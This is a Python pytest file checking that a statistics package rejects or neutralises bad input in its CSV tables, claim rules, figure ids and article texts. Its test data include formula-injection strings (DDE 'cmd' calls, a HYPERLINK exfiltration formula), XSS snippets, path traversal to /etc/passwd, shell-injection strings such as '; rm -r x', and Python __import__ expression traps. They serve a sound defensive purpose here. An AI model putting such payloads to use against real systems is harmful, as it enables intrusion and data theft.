"""Bad input, in one table: a case is refused with file, row, column and value, or comes through safe and unchanged."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Callable
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple

import pandas as pd
import pytest
from small import row, write

import pingan_analysis as pa
from pingan_analysis.cells import guarded, unguarded
from pingan_analysis.errors import DataError
from pingan_analysis.figures.citation import folder as figure_folder
from pingan_analysis.figures.exporting import as_csv
from pingan_analysis.publish import tables
from pingan_analysis.tables import load, transcription
from pingan_analysis.tables.load import TABLES

TEXT = "全年立案611起，同比上升40.46%。\n共10人。\n"
SPENT = 100_000_000  # bytes


class Case(NamedTuple):
    """What is done to good input in a folder, and what is said of it; nothing, where it must come through."""

    name: str
    act: Callable[[Path], list[str]]
    said: tuple[str, ...] = ()


def good(folder: Path, cells: dict[tuple[str, str], str] | None = None) -> Path:
    """A folder => a small set of raw tables in it; `cells` replaces what (table, column) says in its first row."""
    folder.mkdir(exist_ok=True)
    facts = {"text_file": "paper.txt", "n_chars": len(TEXT), "sha256": hashlib.sha256(TEXT.encode()).hexdigest()}
    rows = {
        "areas": [row("areas")],
        "sources": [row("sources", **facts), row("sources", source_id="book", role="outside")],
        "indicators": [row("indicators")],
        "reported": [
            row("reported", number_id="level", start=4, printed="611起", unit="起"),
            row("reported", number_id="change", start=13, printed="40.46%", unit="%", measure="change", direction="up"),
            row("reported", number_id="people", start=22, printed="10人", unit="人"),
        ],
        "not_numbers": [row("not_numbers", mark_id="mark", start=0, printed="全", reason="idiom")],
        "consecutive": [
            row("consecutive", series="new", publisher="法院", publisher_kind="justice", region="浙江", indicator="new",
                label_zh="新收", period="2023", level="100件", url="https://example.org/1"),
        ],
        "claims": [row("claims", claim_id="fit", number_ids="level change", parameters="relation: a > 0")],
        "rules": [row("rules", rule_id="areas", kind="areas", total="*")],
        "lists": [row("lists", list_id="one", number_ids="mark", items=1, start=0, end=1)],
    }  # fmt: skip
    for (table, column), value in (cells or {}).items():
        rows[table][0] |= {column: value}
    return write(folder, rows)


def refused(act: Callable[[], object]) -> list[str]:
    try:
        act()
    except DataError as error:
        return error.problems
    return []


# --- a whole table ----------------------------------------------------------------------------------------------


def table_spoiled(table: str, spoil: Callable[[bytes], bytes | None], folder: Path) -> list[str]:
    path = good(folder) / f"{table}.csv"
    data = spoil(path.read_bytes())
    path.unlink()
    if data is None:
        path.mkdir()
    elif data != b"missing":
        path.write_bytes(data)
    return refused(lambda: load.check(folder))


def columns_turned(data: bytes) -> bytes:
    lines = list(csv.reader(io.StringIO(data.decode())))
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows(line[::-1] for line in lines)
    return text.getvalue().encode()


WHOLE: dict[str, tuple[Callable[[bytes], bytes | None], tuple[str, ...] | None]] = {
    "missing": (lambda data: b"missing", ("missing from",)),
    "a folder": (lambda data: None, ("Is a directory",)),
    "empty": (lambda data: b"", ("row 1: the columns must be", "found nothing")),
    "cut in its last row": (lambda data: data.rstrip(b"\n,")[:-4].rpartition(b",")[0] + b"\n", ("cells, expected",)),
    "cut in a character": (lambda data: data[:-1] + "起".encode()[:2], ("not UTF-8 (byte ", "save it as UTF-8")),
    "GB 18030": (lambda data: (data.decode() + "平安\n").encode("gb18030"), ("not UTF-8", "save it as UTF-8")),
    "UTF-16": (lambda data: data.decode().encode("utf-16"), ("not UTF-8 (byte 0: 0xff)",)),
    "columns in another order": (columns_turned, ("row 1: the columns must be",)),
    "a column twice": (lambda data: data.replace(b",", b",label_en,", 1), ("row 1: the columns must be",)),
    "semicolons": (lambda data: data.replace(b",", b";"), ("row 1: the columns must be",)),
    "a web page": (lambda data: b"<!DOCTYPE html><html><body>404</body></html>", ("row 1", "<!DOCTYPE html>")),
    "JSON": (lambda data: b'{"rows": []}\n', ("",)),
    "a stray quote": (lambda data: data + b'"x"y,\n', ("line ", "expected")),
    "a quote that never ends": (lambda data: data + b'"' + b"x" * 200_000, ("larger than field limit",)),
    "one endless line": (lambda data: data + b"," * 2_000_000, ("a line of 2,000,000 characters",)),
    "an endless header": (lambda data: b"a," * 200_000, ("row 1: the columns must be",)),
    "a byte order mark": (lambda data: b"\xef\xbb\xbf" + data, None),
    "line ends of old": (lambda data: data.replace(b"\n", b"\r"), None),
    "line ends of Windows": (lambda data: data.replace(b"\n", b"\r\n"), None),
    "an empty line": (lambda data: data + b"\n", ("0 cells, expected",)),
}
CASES = [
    Case(f"{table}.csv: {what}", partial(table_spoiled, table, spoil), () if said is None else (f"{table}.csv", *said))
    for table in TABLES
    for what, (spoil, said) in WHOLE.items()
]


def huge(folder: Path) -> list[str]:
    with (good(folder) / "reported.csv").open("ab") as file:
        file.truncate(SPENT)  # a hole of NULs, made at once
    return refused(lambda: load.check(folder))


def doubled(table: str, folder: Path) -> list[str]:
    path = good(folder) / f"{table}.csv"
    path.write_bytes(path.read_bytes() + path.read_bytes().partition(b"\n")[2])
    return refused(lambda: load.check(folder))


def reordered(folder: Path) -> list[str]:
    path = good(folder) / "reported.csv"
    header, *rows = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text(header + "".join(rows[::-1]), encoding="utf-8")
    assert pa.judge("fit", folder).verdict == "untested"
    return refused(lambda: load.check(folder))


CASES += [Case("reported.csv: 100 MB", huge, ("reported.csv: a line of", "at most 1,000,000"))]
CASES += [Case("reported.csv: rows in another order", reordered)]
CASES += [
    Case(f"{table}.csv: every row twice", partial(doubled, table), (f"{table}.csv row", "must be unique, but row"))
    for table in TABLES
    if any(column.unique for column in TABLES[table])
]

# --- a cell that is words -----------------------------------------------------------------------------------------

WORDS = [("claims", "statement_en"), ("sources", "title"), ("reported", "scope_note")]
FORMULAS = [
    "=cmd()", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "－1+1", "＠A1", " =1+1", "'=1",
    "''=1",
    '=HYPERLINK("http://example.org?"&A1)', "-2+3+cmd|' /C calc'!A0", "=DDE(1;2;3)", "+32.5%; 590k", "--1", "-x",
]  # fmt: skip
HARMLESS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</div></body>",
    "&lt;b&gt;",
    "[x](javascript:alert(1))", "| a | b |", "# Heading", "`code`", "$(touch x)", "; rm -r x", "../../etc/passwd",
    "%s%n{0}{x}", "{{7*7}} ${7*7}", "NaN", "None", "inf", "-3.1%", "-inf", "+1,234.5", "1e999", "'quoted'",
    "שלום עליכם",
    'commas, "quotes"', "two\nlines", "a" * 100_000, "e" + "\u0301" * 50, "\U0001f600", "\U00020000",
]  # fmt: skip
HIDDEN = [
    "\0", "\a", "\x1b[31m", "\x7f", "\x85", "\xad", "\u200b", "\u200d", "\u202e", "\u2066", "\u2028", "\ufeff",
    "\u2060",
]  # fmt: skip


class Elements(HTMLParser):
    """The elements and the words of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.found.add(tag)

    def handle_data(self, data: str) -> None:
        self.words += data


def passed_on(table: str, column: str, value: str, folder: Path) -> list[str]:
    """Words reach frames, cards and exports as they are, and come back from an export as they were."""
    problems = refused(lambda: load.check(good(folder, {(table, column): guarded(value)})))
    if problems:
        return problems
    frame = getattr(load, f"load_{table}")(folder)
    assert frame[column][0] == value
    verdict = pa.judge("fit", folder)
    page = Elements(verdict._repr_html_())
    assert page.found <= {"div", "b", "span", "code", "a"}
    assert table != "claims" or value in page.words
    out = folder / "out"
    out.mkdir()
    tables.write_tables(out, folder)
    exports = {path.name: path.read_bytes() for path in out.glob("*.csv")}
    exports["figure"] = as_csv(pd.DataFrame({"n": [1.5], value: [value], "claim": [verdict.statement_en]}))
    back = []
    for name, data in exports.items():
        for line in csv.reader(io.StringIO(data.decode(), newline="")):
            back += map(unguarded, line)
            live = [cell for cell in line if cell[:1] in "=+-@\t\r\n＝＋－＠" and cell and not is_number(cell)]
            assert not live, (name, live)
    assert value in back
    return []


def is_number(cell: str) -> bool:
    try:
        float(cell.rstrip("%").replace(",", ""))
    except ValueError:
        return False
    return True


CASES += [
    Case(f"{table}.csv, {column}: {value[:20]!r}", partial(passed_on, table, column, value))
    for value in FORMULAS + HARMLESS
    for table, column in WORDS
]
CASES += [
    Case(
        f"{table}.csv, {column}: hidden {value!r}", partial(passed_on, table, column, f"a{value}b"),
        (f"{table}.csv row 2, column {column}", f"U+{ord(value[0]):04X}", "delete it"),
    )
    for value in HIDDEN
    for table, column in WORDS
]  # fmt: skip

# --- a cell that is a name, a number or a rule ----------------------------------------------------------------------


def cell(table: str, column: str, value: str, folder: Path) -> list[str]:
    return refused(lambda: load.check(good(folder, {(table, column): value})))


IDS = [("sources", "source_id"), ("reported", "number_id"), ("indicators", "indicator"), ("claims", "claim_id")]
NAMES = [
    "../../etc/passwd", "..", "/etc/passwd", "a/b", "a\\b", "C:\\a", "~root", "%2e%2e", "a b", "a\nb", "-rf", "=cmd()",
    "名字", "ａ", "<b>", "A",
]  # fmt: skip
CASES += [
    Case(f"{table}.csv, {column}: {value!r}", partial(cell, table, column, value),
         (f"{table}.csv row 2, column {column}: ", repr(value)[1:-1], "must match"))
    for table, column in IDS
    for value in NAMES
]  # fmt: skip
CASES += [
    Case(f"sources.csv, text_file: {value!r}", partial(cell, "sources", "text_file", value), ("column text_file",))
    for value in ("../paper.txt", "/etc/passwd", "a/b.txt", "a\\b.txt", "..", ".", "a b.txt", "paper.txt\n")
]
CELLS = [
    ("reported", "start", "-1", "must be a whole number"),
    ("reported", "start", "1e3", "must be a whole number"),
    ("reported", "start", "4.0", "must be a whole number"),
    ("reported", "start", "9" * 5000, "must be a whole number"),
    ("reported", "end", "9" * 16, "must be a whole number"),
    ("reported", "printed", "9" * 100_000, "is not as long as"),
    ("reported", "printed", "万" * 100_000, "is not as long as"),
    ("reported", "printed", "（" * 100_000, "not one printed number"),
    ("reported", "printed", "", "must not be empty"),
    ("reported", "printed", "=611", "not one printed number"),
    ("reported", "printed", "６１１件起", "is not as long as"),
    ("reported", "ref_period", "0000", "names a day that there is not"),
    ("reported", "ref_period", "2021-02-31", "names a day that there is not"),
    ("reported", "ref_period", "2021; DROP", "must match"),
    ("sources", "url", "javascript:alert(1)", "must match"),
    ("sources", "url", "file:///etc/passwd", "must match"),
    ("sources", "n_chars", "9" * 400, "must be a whole number"),
    ("sources", "sha256", "0" * 63, "must match"),
    ("sources", "role", "corpus\u3000", "must be one of"),
    ("claims", "number_ids", "level level2", "which is not in numbers"),
    ("lists", "items", "9" * 5000, "must be a whole number"),
    ("lists", "start", "9-3", "must be a whole number"),
    ("rules", "total", "__import__", "must be * where kind is areas"),
    ("rules", "start", "9" * 5000, "must match"),
    ("claims", "parameters", "a: b: c", "must match"),
    ("indicators", "comparable_with", "cases, fires", "which is not in indicators.indicator"),
    ("areas", "parent", "330000 330000", "which is not in areas.area"),
]
CASES += [
    Case(f"{table}.csv, {column}: {value[:20]!r}", partial(cell, table, column, value), (f"{table}.csv row 2", said))
    for table, column, value, said in CELLS
]


def judged(kind: str, parameters: str, folder: Path) -> list[str]:
    """A claim whose rule is a trap; its row is well formed, so the tables load."""
    cells = {("claims", "kind"): kind, ("claims", "parameters"): parameters}
    return refused(lambda: pa.judge("fit", good(folder, cells)))


TRAPS = [
    ("relation", "relation: a ** b > 1"),
    ("relation", "relation: 9**9**9**9 > a"),
    ("relation", "relation: __import__('os').system('true') == 0"),
    ("relation", "relation: (lambda a - a)(b) == 0"),
    ("relation", "relation: a.__class__ == b"),
    ("relation", "relation: " + "(" * 5000 + "a > b"),
    ("relation", "relation: " + "a + " * 20_000 + "b > 0"),
    ("relation", "relation: " + "-" * 5000 + "a > 0"),
    ("relation", f"relation: a > {'9' * 5000}"),
    ("relation", "relation: a / 0 > 1"),
    ("relation", "relation: h > a"),
    ("relation", "relation: a"),
    ("relation", ""),
    ("no_such_kind", ""),
    ("thresholds", "step: 0"),
    ("thresholds", "step: many"),
    ("first_fall", "since: -999999999"),
    ("first_turning", "since: -999999999"),
    ("turning_point", "definition: sustained; years: 999999999"),
    ("turning_point", "definition: strong; years: 999999999"),
    ("all", "units: each year"),
]
CASES += [
    Case(f"a claim of kind {kind}, {parameters[:40]}", partial(judged, kind, parameters),
         ("claims.csv fit",) if not parameters.startswith("relation") else ("",))
    for kind, parameters in TRAPS
]  # fmt: skip


def drawn(figure_id: str, folder: Path) -> list[str]:
    return refused(lambda: figure_folder(figure_id))


CASES += [
    Case(f"figure {value!r}", partial(drawn, value), ("figure id", repr(value), "only a-z, 0-9 and hyphens"))
    for value in (*NAMES, "", "a\0b", "a" + "\u202e", "a.b")
    if value != "-rf"
]

# --- an article ------------------------------------------------------------------------------------------------------


def article(data: bytes | None, folder: Path) -> list[str]:
    good(folder / "raw")
    path = folder / "paper.txt"
    if data is not None:
        path.write_bytes(data)
    found = transcription.verify(folder, folder / "raw").problems
    assert all(len(problem) < 1000 for problem in found)
    return found


def vast(folder: Path) -> list[str]:
    good(folder / "raw")
    with (folder / "paper.txt").open("wb") as file:
        file.truncate(SPENT)
    return transcription.verify(folder, folder / "raw").problems


def a_folder(folder: Path) -> list[str]:
    (folder / "paper.txt").mkdir()
    return article(None, folder)


def with_inside(text: str) -> bytes:
    return TEXT.replace("611", f"6{text}11").encode()


MOVED = ("paper.txt", "reported.csv level expects '611起'")
ARTICLES: dict[str, tuple[bytes | None, tuple[str, ...]]] = {
    "as it is": (TEXT.encode(), ()),
    "with a byte order mark": (b"\xef\xbb\xbf" + TEXT.encode(), ("fingerprint",)),
    "missing": (None, ("paper.txt: not found in",)),
    "empty": (b"", MOVED),
    "truncated": (TEXT[:9].encode(), ("paper.txt", "change expects '40.46%'")),
    "cut in a character": (TEXT.encode()[:-2] + b"\xff", ("paper.txt: neither UTF-8 (byte",)),
    "UTF-16": (TEXT.encode("utf-16"), ("paper.txt: neither UTF-8",)),
    "UTF-32": (TEXT.encode("utf-32"), ("paper.txt: neither UTF-8",)),
    "Latin": (b"caf\xe9 \xff", ("paper.txt: neither UTF-8",)),
    "GB 18030": (TEXT.encode("gb18030"), ("paper.txt: fingerprint",)),
    "taken for Latin and saved again": (TEXT.encode().decode("latin-1").encode(), MOVED),
    "Big5 taken for GB": ("全年立案611起".encode("big5"), ("paper.txt",)),
    "with NULs": (with_inside("\0"), ("NUL characters",)),
    "with line ends of Windows": (TEXT.replace("\n", "\r\n").encode(), ("people expects '10人'",)),
    "with line ends of old": (TEXT.replace("\n", "\r").encode(), ("paper.txt: fingerprint",)),
    "its lines in another order": ("".join(TEXT.splitlines(keepends=True)[::-1]).encode(), MOVED),
    "twice": ((TEXT * 2).encode(), ("'611' is in neither reported.csv nor not_numbers.csv",)),
    "with a zero-width space": (with_inside("\u200b"), MOVED),
    "with a mark of direction": (with_inside("\u202e"), MOVED),
    "with full-width digits": (TEXT.replace("611", "６１１").encode(), MOVED),
    "with Thai digits": (TEXT.replace("611", "๖๑๑").encode(), MOVED),
    "as a web page": (f"<html><script>alert(1)</script><p>{TEXT}".encode(), MOVED),
    "as a formula": (f"=cmd()\n{TEXT}".encode(), MOVED),
    "decomposed": ((TEXT + "e\u0301").encode(), ("paper.txt: fingerprint",)),
    "with ten thousand numerals more": ((TEXT + "1 " * 10_000).encode(), ("more numerals are in neither",)),
    "with a numeral of a million digits": ((TEXT + "1" * 10**6).encode(), ("… ", "")),
    "a million brackets": ((TEXT + "（" * 10**6).encode(), ("paper.txt: fingerprint",)),
    "a million line breaks": ((TEXT + "\n" * 10**6).encode(), ("paper.txt: fingerprint",)),
}
CASES += [Case(f"an article, {what}", partial(article, data), said) for what, (data, said) in ARTICLES.items()]
CASES += [Case("an article of 100 MB", vast, ("paper.txt: 100,000,000 bytes; an article has at most",))]
CASES += [Case("an article that is a folder", a_folder, ("paper.txt: Is a directory",))]


@pytest.mark.parametrize("case", CASES, ids=[case.name.encode("ascii", "backslashreplace").decode() for case in CASES])
def test_bad_input_is_refused_or_harmless(case: Case, tmp_path: Path) -> None:
    problems = case.act(tmp_path)
    if case.said:
        assert any(all(part in problem for part in case.said) for problem in problems), problems[:5]
    else:
        assert problems == []


def test_there_are_many() -> None:
    assert len(CASES) >= 200 and len({case.name for case in CASES}) == len(CASES)
